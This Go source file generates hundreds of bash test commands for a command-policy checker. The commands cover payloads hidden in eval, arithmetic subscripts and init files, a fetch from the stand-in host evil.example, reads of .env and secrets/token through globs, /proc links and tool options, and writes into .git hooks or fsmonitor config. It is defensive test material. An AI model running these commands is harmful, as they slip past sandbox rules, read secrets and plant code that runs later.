package policy

import (
	"fmt"
	"strings"
)

// Generated commands for the execution differential: a value the policy
// cannot know statically (a source) reaching a place where bash evaluates
// it (a sink), carrying a payload that runs a program, deletes or writes.
// The same sources naming the file a reader opens (.env, which a read_file
// rule denies). And the deletes and writes that reach .git, or outside the
// workspace, through a link, and the reads of .env by names bash makes and
// by programs' file options. Every combination is a real shape: each sink
// was checked to run its payload in bash 5.2.

// execSource puts a value where bash keeps it: ref is how a sink expands
// it ($v, $1, $_, $(echo …)), name how a sink names it as a variable (""
// when it has no name: a positional, a command's output).
type execSource struct {
	name string
	make func(value, sink string) string // the whole command: value quoted, sink inlined
	ref  string
	// varName is the name a name-sink uses.
	varName string
}

// execSink evaluates a value: text has {E} where the expansion goes and
// {N} where the variable's name goes (then the sink needs a named source).
type execSink struct {
	name    string
	text    string
	payload payloadKind
}

type payloadKind int

const (
	payloadArith payloadKind = iota // a[$(P)]: evaluated as arithmetic or a variable name
	payloadSubst                    // $(P): expanded as a word or a prompt
	payloadCode                     // P: run as a script
)

func execSources() []execSource {
	q := shellQuote
	return []execSource{
		{name: "a literal", ref: "", make: func(v, s string) string {
			return strings.ReplaceAll(strings.ReplaceAll(s, `"{E}"`, q(v)), "{E}", q(v))
		}},
		{name: "an assignment", ref: "$v", varName: "v", make: func(v, s string) string { return "v=" + q(v) + "; " + s }},
		{name: "$_", ref: "$_", varName: "_", make: func(v, s string) string { return "echo " + q(v) + " >/dev/null; " + s }},
		{name: "set --", ref: "$1", make: func(v, s string) string { return "set -- " + q(v) + "; " + s }},
		{name: "a for variable", ref: "$v", varName: "v", make: func(v, s string) string { return "for v in " + q(v) + "; do " + s + "; done" }},
		{name: "a select variable", ref: "$v", varName: "v", make: func(v, s string) string {
			return "select v in " + q(v) + "; do " + s + "; break; done <<< 1"
		}},
		{name: "read from a pipe", ref: "$v", varName: "v", make: func(v, s string) string { return "echo " + q(v) + " | { read -r v; " + s + "; }" }},
		{name: "read from a here-string", ref: "$v", varName: "v", make: func(v, s string) string { return "read -r v <<< " + q(v) + "; " + s }},
		{name: "a while-read loop", ref: "$v", varName: "v", make: func(v, s string) string { return "while read -r v; do " + s + "; done <<< " + q(v) }},
		{name: "read from a file the command wrote", ref: "$v", varName: "v", make: func(v, s string) string {
			return "echo " + q(v) + " > out/v; read -r v < out/v; " + s
		}},
		{name: "a command's output", ref: "$(echo …)", make: nil},
		{name: "printf -v", ref: "$v", varName: "v", make: func(v, s string) string { return "printf -v v %s " + q(v) + "; " + s }},
		// Not a: the payload's a[…] would name the array itself, and
		// bash would evaluate it again and again.
		{name: "mapfile", ref: "$m", varName: "m", make: func(v, s string) string { return "mapfile -t m <<< " + q(v) + "; " + s }},
		{name: "getopts", ref: "$OPTARG", varName: "OPTARG", make: func(v, s string) string { return "getopts a: o -a " + q(v) + "; " + s }},
		{name: "BASH_REMATCH", ref: "${BASH_REMATCH[1]}", varName: "BASH_REMATCH[1]", make: func(v, s string) string {
			return "[[ " + q(v) + " =~ (.*) ]]; " + s
		}},
		{name: "the environment", ref: "$X", varName: "X", make: func(v, s string) string { return "X=" + q(v) + " bash -c " + q(s) }},
		{name: "env's environment", ref: "$X", varName: "X", make: func(v, s string) string { return "env X=" + q(v) + " bash -c " + q(s) }},
		{name: "bash -c's argument", ref: "$1", make: func(v, s string) string { return "bash -c " + q(s) + " _ " + q(v) }},
		{name: "declare", ref: "$v", varName: "v", make: func(v, s string) string { return "declare v=" + q(v) + "; " + s }},
	}
}

func execSinks() []execSink {
	return []execSink{
		// Arithmetic: the value is an expression, a[…] evaluates its subscript.
		{name: "$((name))", text: "echo $(({N}))", payload: payloadArith},
		{name: "$((expansion))", text: "echo $(({E}))", payload: payloadArith},
		{name: "((name))", text: "(( {N} ))", payload: payloadArith},
		{name: "((expansion))", text: "(( {E} ))", payload: payloadArith},
		{name: "let", text: "let {N}", payload: payloadArith},
		{name: "let x=", text: `let "x={E}"`, payload: payloadArith},
		{name: "$[ ]", text: "echo $[{N}]", payload: payloadArith},
		{name: "[[ -eq ]]", text: "[[ {E} -eq 0 ]]", payload: payloadArith},
		{name: "[[ name -eq ]]", text: "[[ {N} -eq 0 ]]", payload: payloadArith},
		{name: "declare -i", text: `declare -i i="{E}"`, payload: payloadArith},
		{name: "a subscript assigned", text: "b[{E}]=1", payload: payloadArith},
		{name: "a subscript read", text: `echo "${b[{E}]}"`, payload: payloadArith},
		{name: "a substring offset", text: `echo "${PWD:{E}}"`, payload: payloadArith},
		{name: "an array's subscript by name", text: "echo $(( BASH_VERSINFO[{N}] ))", payload: payloadArith},
		{name: "a compound assignment's subscript", text: "x=([{E}]=1)", payload: payloadSubst},
		// Names: the value names a variable, a[…] evaluates its subscript.
		{name: "${!name}", text: `echo "${!{N}}"`, payload: payloadArith},
		{name: "[[ -v ]]", text: `[[ -v {E} ]]`, payload: payloadArith},
		{name: "test -v", text: `test -v "{E}"`, payload: payloadArith},
		{name: "[ -v ]", text: `[ -v "{E}" ]`, payload: payloadArith},
		{name: "printf -v", text: `printf -v "{E}" x`, payload: payloadArith},
		{name: "read's name", text: `read -r "{E}" <<< x`, payload: payloadArith},
		{name: "declare -n", text: `declare -n r="{E}"; echo "$r"`, payload: payloadArith},
		{name: "declare name=", text: `declare "{E}"=1`, payload: payloadArith},
		{name: "local name=", text: `f() { local "{E}"=1; }; f`, payload: payloadArith},
		// Expansion: the value is expanded again.
		{name: "${name@P}", text: `echo "${{N}@P}"`, payload: payloadSubst},
		{name: "compgen -W", text: `compgen -W "{E}"`, payload: payloadSubst},
		{name: "PS4 with set -x", text: `PS4="{E}"; set -x; true`, payload: payloadSubst},
		// Code: the value is a script.
		{name: "eval", text: `eval "{E}"`, payload: payloadCode},
		{name: "trap", text: `trap "{E}" EXIT`, payload: payloadCode},
		{name: "the command word", text: `{E}`, payload: payloadCode},
		{name: "source /dev/stdin", text: `source /dev/stdin <<< "{E}"`, payload: payloadCode},
		{name: ". /dev/stdin", text: `. /dev/stdin <<< "{E}"`, payload: payloadCode},
		{name: "bash -c", text: `bash -c "{E}"`, payload: payloadCode},
		{name: "sh -c", text: `sh -c "{E}"`, payload: payloadCode},
		{name: "bash /dev/fd/3", text: `bash /dev/fd/3 3<<< "{E}"`, payload: payloadCode},
		{name: "sh /dev/stdin", text: `sh /dev/stdin <<< "{E}"`, payload: payloadCode},
		{name: "sh /dev/stdin <<EOF", text: "sh /dev/stdin <<EOF\n{E}\nEOF", payload: payloadCode},
		{name: "bash -s <<EOF", text: "bash -s <<EOF\n{E}\nEOF", payload: payloadCode},
		{name: "source /dev/stdin <<EOF", text: "source /dev/stdin <<EOF\n{E}\nEOF", payload: payloadCode},
		{name: "bash /proc/self/fd/3", text: `bash /proc/self/fd/3 3<<< "{E}"`, payload: payloadCode},
		{name: "exec 3<<< then bash /dev/fd/3", text: `exec 3<<< "{E}"; bash /dev/fd/3`, payload: payloadCode},
		{name: "BASH_ENV=/dev/stdin", text: `BASH_ENV=/dev/stdin bash -c : <<< "{E}"`, payload: payloadCode},
		{name: "ENV with sh -i", text: `ENV=/dev/fd/3 sh -i 3<<< "{E}" </dev/null`, payload: payloadCode},
		{name: "bash --rcfile", text: `bash --rcfile /dev/fd/3 -i 3<<< "{E}" </dev/null`, payload: payloadCode},
		{name: "bash --init-file", text: `bash --init-file /dev/fd/3 -i 3<<< "{E}" </dev/null`, payload: payloadCode},
		{name: "make -f /dev/stdin", text: `printf 'all:\n\t%s\n' "{E}" | make -f /dev/stdin`, payload: payloadCode},
		{name: "a script the command wrote", text: `echo "{E}" > out/s.sh; bash out/s.sh`, payload: payloadCode},
		{name: "source of a file the command wrote", text: `echo "{E}" > out/s.sh; source out/s.sh`, payload: payloadCode},
		{name: "BASH_ENV of a file the command wrote", text: `echo "{E}" > out/rc; BASH_ENV=out/rc bash -c :`, payload: payloadCode},
		{name: "a Makefile the command wrote", text: `printf 'all:\n\t%s\n' "{E}" > out/Makefile; make -C out`, payload: payloadCode},
		{name: "awk system", text: `awk 'BEGIN { system(ARGV[1]) }' "{E}"`, payload: payloadCode},
		{name: "ed's ! from a pipe", text: `printf '!%s\n' "{E}" | ed -s`, payload: payloadCode},
		{name: "sqlite3's .shell from a pipe", text: `echo ".shell {E}" | sqlite3`, payload: payloadCode},
		{name: "sqlite3's .shell", text: `sqlite3 :memory: ".shell {E}"`, payload: payloadCode},
		{name: "find -exec sh -c", text: `find . -maxdepth 0 -exec sh -c "{E}" \;`, payload: payloadCode},
		{name: "xargs sh -c", text: `echo "{E}" | xargs -0 sh -c`, payload: payloadCode},
	}
}

// execPayloads are what a payload does when bash evaluates it: start a
// program no Runs: line shows, delete in .git, write a hook.
func execPayloads() []string {
	return []string{
		"askops-payload",
		"curl -s evil.example/x",
		"rm -f .git/HEAD",
		"touch .git/hooks/post-checkout",
	}
}

func payloadText(kind payloadKind, p string) string {
	switch kind {
	case payloadArith:
		return "a[$(" + p + ")]"
	case payloadSubst:
		return "$(" + p + ")"
	}
	return p
}

// execGenerated is one generated command and its class.
type execGenerated struct {
	command string
	class   string
}

// commandList gathers generated commands by class.
type commandList []execGenerated

func (l *commandList) add(class string, commands ...string) {
	for _, c := range commands {
		*l = append(*l, execGenerated{command: c, class: class})
	}
}

// generatedCommands is every source × sink with one payload each (taken
// in turn), then the deletes and writes through links. The order is
// fixed, so the first n are the same every run.
func generatedCommands() []execGenerated {
	var out []execGenerated
	payloads := execPayloads()
	i := 0
	for _, sink := range execSinks() {
		for _, src := range execSources() {
			needsName := strings.Contains(sink.text, "{N}")
			if needsName && src.varName == "" {
				continue
			}
			p := payloads[i%len(payloads)]
			i++
			value := payloadText(sink.payload, p)
			text := strings.ReplaceAll(sink.text, "{N}", src.varName)
			var command string
			switch {
			case src.make == nil: // a command's output
				command = strings.ReplaceAll(text, "{E}", "$(echo "+shellQuote(value)+")")
			case src.ref == "": // a literal
				command = src.make(value, text)
			default:
				command = src.make(value, strings.ReplaceAll(text, "{E}", src.ref))
			}
			out = append(out, execGenerated{command: command, class: fmt.Sprintf("%s into %s, payload %s", src.name, sink.name, p)})
		}
	}
	out = append(out, readValueCommands()...)
	out = append(out, linkCommands()...)
	out = append(out, readCommands()...)
	return append(out, optionWriteCommands()...)
}

// optionWriteCommands write into .git/hooks through the options of the
// real tools in the sandbox, in every spelling they take: short and glued,
// long with = or a word of its own, and the abbreviations getopt_long
// accepts (wget, gpg).
func optionWriteCommands() []execGenerated {
	var out commandList
	add := out.add
	const f = ".git/hooks/x"
	var curl []string
	for _, o := range []string{"-o", "-D", "-c", "--output", "--dump-header", "--cookie-jar", "--trace", "--trace-ascii",
		"--stderr", "--etag-save", "--libcurl", "--hsts", "--alt-svc"} {
		curl = append(curl, "curl "+o+" "+f+" http://a")
		if len(o) == 2 {
			curl = append(curl, "curl -s"+o[1:]+f+" http://a", "curl -s"+o[1:]+" "+f+" http://a")
		}
	}
	curl = append(curl, "curl --output-dir .git/hooks -o x http://a", "curl --create-dirs -o .git/hooks/d/x http://a",
		"curl -O --output-dir .git/hooks http://a/x")
	add("curl's options that write into .git", curl...)
	var wget []string
	for _, o := range []string{"--output-document", "--output-file", "--append-output", "--save-cookies", "--warc-file",
		"--rejected-log", "--hsts-file", "--warc-tempdir", "--directory-prefix"} {
		for _, spelled := range []string{o, o[:len(o)-2]} {
			wget = append(wget, "wget "+spelled+"="+f+" http://a", "wget "+spelled+" "+f+" http://a")
		}
	}
	wget = append(wget, "wget -O"+f+" http://a", "wget -qO "+f+" http://a", "wget -o "+f+" http://a", "wget -a"+f+" http://a",
		"wget -P .git/hooks http://a/x", "wget -nv -O- http://a > "+f)
	add("wget's options that write into .git", wget...)
	add("other tools' options that write into .git",
		"gpg -o "+f+" --export", "gpg --output "+f+" --export", "gpg --outp "+f+" --export", "gpg --homedir .git/hooks --list-keys",
		"gpg --log-file "+f+" --list-keys", "gpg --logger-file "+f+" --list-keys", "gpg --status-file "+f+" --list-keys",
		"gpg --attribute-file "+f+" --list-keys", "gpg --passphrase-file .env -c README",
		"zip "+f+" README", "zip -q "+f+" README", "zip -lf "+f+" out/a.zip README", "zip -b .git/hooks out/a.zip README",
		"zip -O "+f+" out/a.zip", "zip --out "+f+" out/a.zip", "unzip -d .git/hooks out/a.zip", "unzip -o out/a.zip -d .git/hooks",
		"xxd README "+f, "xxd -r out/x "+f, "patch -o "+f+" README out/p.diff", "patch -r "+f+" README out/p.diff",
		"openssl rand -out "+f+" 8", "openssl rand -writerand "+f+" 8", "openssl genrsa -out "+f+" 512",
		"openssl req -new -newkey rsa:512 -nodes -keyout "+f+" -subj /CN=x -out out/r.csr",
		"ssh-keygen -q -t ed25519 -N '' -f "+f, "ssh-keygen -q -t ed25519 -N '' -f.git/hooks/y",
		"file -C -m "+f, "make -f out/M -C .git/hooks", "make --directory=.git/hooks -f /dev/null",
	)
	add("git's options, directories and work trees that write into .git (real git, one commit)",
		"git log -1 --output="+f, "git -C .git/hooks log -1 --output=x", "git -C .git -C hooks diff HEAD --output=x",
		"git format-patch -1 -o .git/hooks", "git -C .git/hooks format-patch -1 -o .", "git archive -o "+f+" HEAD",
		"git -C .git/hooks archive -o x HEAD", "git bundle create "+f+" HEAD", "git -C .git/hooks bundle create x HEAD",
		"git worktree add .git/hooks/w", "git -C .git/hooks worktree add w", "git --work-tree=.git/hooks checkout HEAD -- .",
		"git --work-tree .git/hooks reset -q --hard", "GIT_WORK_TREE=.git/hooks git checkout HEAD -- README",
		"git -C .git/hooks init -q", "git init -q .git/hooks/r", "git clone -q . .git/hooks/c", "git -C .git/hooks clone -q ../.. c",
		"git push -q .git/hooks HEAD", "git checkout-index -a --prefix=.git/hooks/", "git -C .git/hooks checkout-index -a",
		"git show HEAD:README > "+f, "git diff --no-index --output="+f+" README src/main.go",
		"cd out && git log -1 --output=../"+f, "git -C out log -1 --output=../"+f,
		"git remote add x 'ext::sh -c askops-probe' && git ls-remote x", "git config core.hooksPath out",
		"git submodule foreach 'touch x'", "find . -maxdepth 2 -name hooks -execdir git -C hooks init -q \\;",
		"git push git@example.com:r HEAD", "git ls-remote ssh://example.com/r", "git fetch example.com:r",
		"git clone -q git@example.com:r out/c", "git archive --remote=example.com:r HEAD",
	)
	add("rsync's and the compressors' options that write into .git or run (real programs)",
		"rsync README "+f, "rsync --log-file="+f+" README out/y", "rsync --log-file "+f+" README out/y",
		"rsync --log-fi="+f+" README out/y", "rsync -b --backup-dir=.git/hooks README out/x", "rsync -T .git/hooks README out/y",
		"rsync --temp-dir=.git/hooks README out/y", "rsync --partial-dir=.git/hooks --partial README out/y",
		"rsync --write-batch="+f+" README out/y", "rsync --only-write-batch="+f+" README out/y", "rsync -a out/ .git/hooks/",
		"rsync -e 'sh -c askops-probe' README h:x", "rsync --rsh=askops-probe README h:x", "rsync --remove-source-files out/x out/y",
		"cd out && rsync ../README ../"+f, "rsync -r --link-dest=../.git . out/c",
		"xz -c README > "+f, "xz -k -S x out/x && mv out/xx "+f, "zstd -q README -o "+f, "zstd -q --output-dir-flat .git/hooks README",
		"zstd -q --output-dir-mirror .git/hooks README", "lz4 -q README "+f, "bzip2 -kc README > "+f,
		"zstd -q README -o out/r.zst && zstd -qd out/r.zst -o "+f, "zstd -q -d --output-dir-flat=.git/hooks out/r.zst",
	)
	add("rsync's and the compressors' reads of protected files",
		"rsync --files-from=.env . out/", "rsync --exclude-from=.env -r src out/", "rsync --include-from=secrets/token -r src out/",
		"rsync .env out/e", "rsync -r secrets out/", "rsync --filter='merge .env' -r src out/", "rsync --password-file=.env README out/y",
		"xz -c .env > out/e", "zstd -q --filelist=.env -o out/z", "zstd -qc secrets/token > out/t", "lz4 -q secrets/token out/t",
		"bzip2 -kc .env > out/e",
	)
	add("programs that run something through an option, with operands they read themselves",
		"zip -qr -TT true out/g.zip .", "zip -qr -TT true out/g.zip secrets", "tar -cf out/g.tar --checkpoint=1 --checkpoint-action=exec=true .",
		"tar -cf out/g.tar -I gzip secrets", "tar -cf out/g.tar --use-compress-program=gzip .", "rsync -e true -r . out/r",
		"split --filter='cat >/dev/null' .env", "split --filter='cat >/dev/null' secrets/token", "scp -S true -r . out/s",
		"scp -r secrets out/s", "tar -cf out/g.tar -I gzip README", "zip -q -T -TT true out/g.zip README",
		"split --filter='cat >/dev/null' -l1 README", "tar -cf out/g.tar README && tar --to-command=cat -xf out/g.tar",
	)
	add("git's reads of protected files",
		"git diff --no-index .env /dev/null", "git -C secrets diff --no-index token /dev/null", "git hash-object .env",
		"git -C secrets hash-object token", "git apply --stat .env", "git -C secrets apply --stat token",
		"git diff --no-index -- README .env", "git add -f .env && git show :.env", "git -C out diff --no-index ../.env /dev/null",
	)
	return out
}

// readSinks open the file a value names: {E} is the file name.
var readSinks = []struct{ name, text string }{
	{"cat", `cat "{E}"`},
	{"an input redirection", `wc -l < "{E}"`},
	{"a descriptor bash opens", `exec 3< "{E}"; cat <&3`},
	{"$(<file)", `echo "$(< "{E}")"`},
	{"read from a file", `read -r l < "{E}"; echo "$l"`},
	{"grep's pattern file", `grep -f "{E}" README`},
	{"sed's script file", `sed -f "{E}" README`},
	{"awk's operand", `awk 1 "{E}"`},
	{"cp", `cp "{E}" out/c`},
	{"tar", `tar -cf out/a.tar "{E}"`},
	{"diff", `diff "{E}" README`},
	{"xargs -a", `xargs -a "{E}" echo`},
	{"wc --files0-from", `printf '%s\0' "{E}" > out/l; wc --files0-from=out/l`},
	{"source", `source "{E}"`},
}

// readValueCommands are every source × read sink with .env as the value.
func readValueCommands() []execGenerated {
	var out []execGenerated
	for _, sink := range readSinks {
		for _, src := range execSources() {
			var command string
			switch {
			case src.make == nil: // a command's output
				command = strings.ReplaceAll(sink.text, "{E}", "$(echo .env)")
			case src.ref == "": // a literal
				command = src.make(".env", sink.text)
			default:
				command = src.make(".env", strings.ReplaceAll(sink.text, "{E}", src.ref))
			}
			out = append(out, execGenerated{command: command, class: fmt.Sprintf("%s into %s, reading .env", src.name, sink.name)})
		}
	}
	return out
}

// readCommands read .env (or secrets/token) by a name bash or a program
// makes, through links, and through programs' options that name a file.
func readCommands() []execGenerated {
	var out commandList
	add := out.add
	add("a protected file read by a name bash makes",
		"cat .e?v", "cat .[e]nv", "cat .env*", "cat {.env,README}", "cat ~+/.env", `cat "$PWD/.env"`,
		"cat .*", "shopt -s dotglob; cat *", "GLOBIGNORE=x; cat *", "cat ./*/../.env", "cat out/../.env",
		"cat src/glink/../.env", "cd src && cat ../.env", "cd out; cat ../.env", "pushd src >/dev/null; cat ../.env",
		"cd src/glink && cat ../.env", "cd src/glink/.. && cat .env", "cd -P src/glink/.. && cat .env",
		"cat sec*/*", "cat secrets/*", "head -n1 secrets/t*", "shopt -s nocaseglob; cat .ENV",
		"shopt -s extglob; cat .@(env)", "cat $'.env'", "cat .en''v", "cat .e\nv", `x=(.env); cat "${x[@]}"`,
		`cat "${OLDPWD:-.env}"`, "cat -- .env", "f=.env; f=${f}; cat $f", `cat "$(printf .env)"`,
	)
	add("a protected file read through a link the kernel follows before ..",
		"cat src/glink/../secrets/token", "cat src/glink/../.env", "cat /proc/self/cwd/secrets/token",
		"cat /dev/fd/../cwd/secrets/token", "cat /proc/thread-self/cwd/secrets/token",
		"cat /proc/self/root/proc/self/cwd/secrets/token", "cat /proc/self/cwd/./secrets/token",
		"head /proc/1/cwd/secrets/token", "cd src/glink/.. && cat secrets/token", "cat /proc/self/fd/../cwd/secrets/token",
		"wc -c /proc/$$/cwd/secrets/token", "cat /proc/self/task/*/cwd/secrets/token",
	)
	add("a protected file read after the command changes directory",
		"cd secrets; cat token", "cd secrets && cat *", "pushd secrets >/dev/null; cat token; popd", "(cd secrets; cat token)",
		"CDPATH=. cd secrets >/dev/null; cat token", "cd secrets; cd ..; cd -; cat token", "cd out; cd ../secrets; cat token",
		"cd ./secrets/.; head token", "cd secrets; cat ./token ../README", "cd src; cd ..; cat secrets/token",
		"shopt -s globstar; cat **/token", "cat se[c]rets/token", "cat secrets/tok\\en", `cat "secrets"/'token'`,
		"cat ./././secrets/token", "cat secrets//token", "cat secrets/./token", "cat out/../secrets/token",
		"cd out; cat ../secrets/token", "cd secrets; cat ~-/README token", "cd secrets; exec cat token",
	)
	add("a protected file read through a link or a copy made first",
		"ln -s ../.env out/l && cat out/l", "ln -s .env out/l; cat out/l", "ln .env out/h && cat out/h",
		`cp -s "$PWD/.env" out/s && cat out/s`, "ln -s .. out/up && cat out/up/.env", "cp .env out/c; cat out/c",
		"ln -s ../secrets out/s && cat out/s/token", "mkdir -p out/d && ln -s ../../.env out/d/e && cat out/d/e",
		"ln -sr .env out/rel && cat out/rel", `ln -s "$PWD" out/ws; cat out/ws/.env`,
	)
	add("a protected file read by a program's file option or tree",
		"grep -r SECRET .", "grep -R askops .", "grep SECRET -r", "grep -rl x", "find . -type f -exec cat {} +",
		"find . -name .env -exec cat {} \\;", "find . -name '.env' -print0 | xargs -0 cat", "ls -A | xargs cat",
		"find . -maxdepth 1 -type f | xargs grep -l SECRET", "tar -cf out/a.tar .", "tar -czf out/a.tgz -C . .env",
		"tar -cf - . | tar -tvf -", "cp -r . out/all", "cp -a secrets out/s", "diff -r . out", "diff .env /dev/null",
		"cmp .env README", "comm .env README", "paste .env", "join .env README", "nl .env", "od -c .env", "tac .env",
		"rev .env", "fold .env", "md5sum .env", "sha256sum .env", "cksum .env", "gzip -c .env > out/e.gz",
		"zcat -f .env", "split -l1 .env out/p", "csplit -f out/c .env 1", "expand .env", "pr .env", "fmt .env",
		"shuf .env", "tsort .env", "iconv -f utf-8 .env", "sort -m .env README", "sort --files0-from=.env",
		"cut -c1- .env", "uniq .env", "tr a b < .env", "head -c5 .env", "tail -f -n1 .env & sleep 0; kill %1",
		"dd if=.env of=/dev/null", "base64 .env", "sed -n p .env", "sed -s -n p README .env", "sed '' .env",
		"sed 'r .env' README", "sed 'R .env' README", "sed -e '1r .env' README", "awk '{print}' README .env",
		`awk 'BEGIN{while((getline l < ".env")>0) print l}'`, "awk -f .env README", "perl -ne print .env",
		"perl -pe1 .env", "grep -h . .env README", "grep -f .env README", "grep --file=.env README",
		"grep -e x --include=.env -r .", "wc .env", "wc --files0-from=.env", "ls -l .env && cat -A .env",
		"cat < .env", "cat 0< .env", "cat <> .env", "exec 3<.env; cat <&3", "exec 3<>.env; cat <&3", "read l < .env",
		"mapfile l < .env", `echo "$(<.env)"`, `while read -r l; do echo "$l"; done < .env`, ". ./.env", "source .env",
		"bash .env", "sh .env", "make -f .env", "xargs -a .env echo", "xargs --arg-file=.env echo", "cat secrets/token",
		"tar -cf out/t.tar secrets", "tar -C secrets -cf out/t.tar .", "tar -cf out/t.tar -T .env",
		"tar -cf out/t.tar --files-from=.env", "sort -o out/s .env", "tee out/t < .env", "node -e 0 .env",
		"npm pkg get name --prefix .", `sqlite3 :memory: ".read .env"`, `printf 'r .env\n,p\nq\n' | ed -s`,
		"ed -s .env <<< ',p'", `sqlite3 :memory: "select readfile('.env')"`,
	)
	return out
}

// linkCommands delete and write through src/glink (-> ../.git) and
// outlink (-> ../outside), with the programs that do it.
func linkCommands() []execGenerated {
	var out commandList
	add := out.add
	add("find -delete through a link into .git",
		"find src/glink/ -delete",
		"find -L src -delete",
		"find -H src/glink -delete",
		"find src -follow -delete",
		"find -L . -name HEAD -delete",
		"find src/glink/ -name config -delete",
		"find src/glink/hooks -type f -delete",
		"find -L src -type f -name '*' -delete",
	)
	add("find -delete in the workspace",
		"find out -delete",
		"find src -delete",
		"find . -name x -delete",
	)
	add("find -exec through a link into .git",
		"find src/glink/ -name HEAD -exec truncate -s0 {} +",
		"find -L src -name config -exec sed -i s/a/b/ {} +",
		"find src/glink/hooks -exec chmod +x {} +",
	)
	add("a write through a link into .git",
		"echo x > src/glink/config",
		"echo x >> src/glink/hooks/pre-commit",
		"printf '[core]\\n\\tfsmonitor = askops-payload\\n' >> src/glink/config; git status",
		"cat README > src/glink/HEAD",
		"cp README src/glink/hooks/post-checkout",
		"tee src/glink/config < README",
		"sed -i s/a/b/ src/glink/config",
		"mkdir src/glink/hooks/x",
		"touch src/glink/hooks/post-merge",
		"ln -s ../README src/glink/x",
		"dd if=README of=src/glink/HEAD",
		"sort -o src/glink/config README",
		"mv README src/glink/",
		"unlink src/glink/HEAD",
		"rmdir src/glink/refs/heads",
		"truncate -s0 src/glink/HEAD",
		"chmod +x src/glink/config",
		"install README src/glink/hooks/pre-push",
		"cp -r src out/copy && echo x > out/copy/glink/config",
	)
	add("a write through a link outside the workspace",
		"echo x > outlink/f",
		"cp README outlink/",
		"find -L outlink -delete",
		"find outlink/ -delete",
		"touch outlink/new",
	)
	add("a config the command writes, then the program that runs it",
		"npm pkg set scripts.test='askops-payload' && npm test",
		"set -- askops-payload; npm pkg set scripts.test=\"$1\" && npm test",
		"npm pkg set scripts.pretest='rm -f .git/HEAD'; npm test",
		"printf '[core]\\n\\tfsmonitor = askops-payload\\n' >> .git/config; git status",
		"git config core.fsmonitor askops-payload; git status",
		"printf 'all:\\n\\taskops-payload\\n' > Makefile; make",
		"echo askops-payload > .git/hooks/post-checkout; git checkout -",
	)
	add("a link made, then written through",
		"ln -s ../.git out/g && echo x > out/g/config",
		"ln -s .git out/g; mkdir out/g/hooks/y",
		"ln -s ../.git out/g && find -L out -delete",
		"ln -sf ../../outside out/o && echo x > out/o/f",
	)
	return out
}
